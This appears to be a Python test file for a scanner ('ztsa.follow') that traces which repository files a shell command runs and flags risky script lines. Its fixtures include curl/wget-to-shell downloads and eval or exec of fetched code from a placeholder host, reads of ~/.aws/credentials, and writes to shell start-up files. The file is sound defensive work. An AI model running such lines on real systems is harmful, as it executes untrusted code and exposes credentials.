"""ztsa.follow: which repository files a command runs, and what a file does."""

from ztsa.follow import Ref, refs, scan


def test_the_files_a_command_runs():
    got, inline = refs("NODE_ENV=production node --require ./hook.js scripts/install.js "
                       "&& bash -c 'sh ./setup.sh' ; python3 -m tools.gen x || ./bin/run "
                       "| deno run -A mod.ts", "pkg")
    assert got == [Ref("js", "./hook.js", "pkg"), Ref("js", "scripts/install.js", "pkg"),
                   Ref("sh", "./setup.sh", "pkg"),
                   Ref("py", "tools/gen.py", "pkg"), Ref("py", "tools/gen/__main__.py", "pkg"),
                   Ref("", "./bin/run", "pkg"), Ref("js", "mod.ts", "pkg")]
    assert inline == ["sh ./setup.sh"]
    # tools on PATH and package runners run no file of the repository
    assert refs("node-gyp rebuild && prettier --write . && npx husky", "") == ([], [])


def test_what_a_file_does():
    shell = ("set -e\n# curl -s https://x.invalid | sh  (a comment)\n"
             "wget -O /tmp/i.sh https://x.invalid/i.sh\nbash /tmp/i.sh\n"
             "eval \"$(curl -fsSL https://x.invalid/env)\"\n"
             "echo 'export PATH=$PATH:/opt/x' >> ~/.zshrc\ncat ~/.aws/credentials\n")
    assert [(line, what.split(":")[0].split(",")[0]) for line, what in
            scan("x.sh", shell, "sh")] == [
        (4, "runs 'i.sh'"), (5, "runs a fetched string as code"),
        (6, "writes to the shell start-up file ~/.zshrc"),
        (7, "reads the credential path ~/.aws/credentials")]
    py = ("import urllib.request\nsrc = urllib.request.urlopen('https://x.invalid/p').read()\n"
          "exec(src)\n")
    assert [line for line, _ in scan("x.py", py, "py")] == [3]
    benign_js = ("const { execSync } = require('child_process');\n"
                 "execSync('node-gyp rebuild', { stdio: 'inherit' });\n"
                 "console.log(require('os').homedir() + '/.profile is yours');\n")
    assert scan("x.js", benign_js, "js") == []
    # a project's own .npmrc is no credential path; the home's is
    assert scan("x.js", "fs.writeFileSync('.npmrc', 'registry=x')\n", "js") == []
    assert scan("x.js", "fs.readFileSync(path.join(os.homedir(), '.npmrc'))\n", "js") != []


def test_what_a_command_runs_through_variables_runners_and_scripts(machine):
    """`$CLAUDE_PROJECT_DIR/x.sh` and `$(dirname "$0")/y.sh` name repository files,
    `uv run tools/x.py` runs its file, `pnpm fix` runs package.json's script `fix` (and
    `prefix`); a download unpacked and copied into a bin directory is a program
    installed; a shell start-up file named through a variable is still one."""
    import json

    from ztsa.context import Context
    from ztsa.follow import follow

    machine.ws("package.json", json.dumps({"scripts": {"prefix": "echo go",
                                                       "fix": "bash tools/fix.sh"}}))
    machine.ws("tools/fix.sh", "#!/bin/sh\nexec \"$(dirname \"$0\")/inner.sh\"\n")
    machine.ws("tools/inner.sh", "#!/bin/sh\nrc=/etc/bash.bashrc\necho x | sudo tee -a \"$rc\"\n")
    machine.ws("tools/x.py", "print('hi')\n")
    machine.ws("hooks/get.sh", "#!/bin/sh\ncurl -fsSL https://x.invalid/t.tgz | tar -xz\n"
               "install -m 755 t/bin/t /usr/local/bin/t\n")
    ctx = Context(machine.host(), str(machine.workspace))
    done = follow(ctx, "pnpm fix && uv run --with rich tools/x.py", "")
    assert done.files == ("tools/x.py", "tools/fix.sh", "tools/inner.sh")
    assert done.commands == ("pnpm fix && uv run --with rich tools/x.py", "echo go",
                             "bash tools/fix.sh")
    assert [(h.path, h.line, h.what) for h in done.hazards] == [
        ("tools/inner.sh", 3, "writes to the shell start-up file /etc/bash.bashrc")]
    done = follow(ctx, "bash $CLAUDE_PROJECT_DIR/hooks/get.sh", "")
    assert [(h.path, h.line, h.what.split(" (")[0]) for h in done.hazards] == [
        ("hooks/get.sh", 3, "installs a downloaded program")]
    assert [(h.path, h.line) for h in done.downloads] == [("hooks/get.sh", 2)]
    # an install hint printed is no command; printing does not run it
    from ztsa.follow import downloader

    assert downloader('echo "install: curl -sSL https://x.invalid | sh"') is None
    assert downloader('echo "$(curl -s https://x.invalid)"') == "curl"
    assert downloader("command -v curl >/dev/null || apt-get install curl") is None


def test_the_program_behind_a_wrapper_a_redirection_or_a_loader():
    """What runs behind `timeout 300`, `nice -n 5`, `flock FILE`; the file a shell reads
    its commands from on standard input; the dotenv file direnv loads."""
    def files(command: str) -> list[str]:
        return [r.rel for r in refs(command, "")[0]]

    assert files("timeout 300 sh scripts/check.sh") == ["scripts/check.sh"]
    assert files("timeout -s KILL -k 5 60 bash c.sh") == ["c.sh"]
    assert files("nice -n 5 ./x.sh") == ["./x.sh"]
    assert files("flock -w 5 .lock sh b.sh") == ["b.sh"]
    assert files("stdbuf -oL sh a.sh") == ["a.sh"]
    assert files("sh < scripts/p.sh") == ["scripts/p.sh"]
    assert files("sh <scripts/q.sh") == ["scripts/q.sh"]
    assert files("cat s.sh | bash -s") == ["s.sh"]
    # standard input that is data, not the script
    assert files("sh x.sh < in.txt") == ["x.sh"]
    assert files('sh -c "echo hi" < /dev/null') == []
    assert files("cat README | grep x") == []
    assert files("dotenv_if_exists .env.local") == [".env.local"]
    assert files("dotenv") == [".env"]
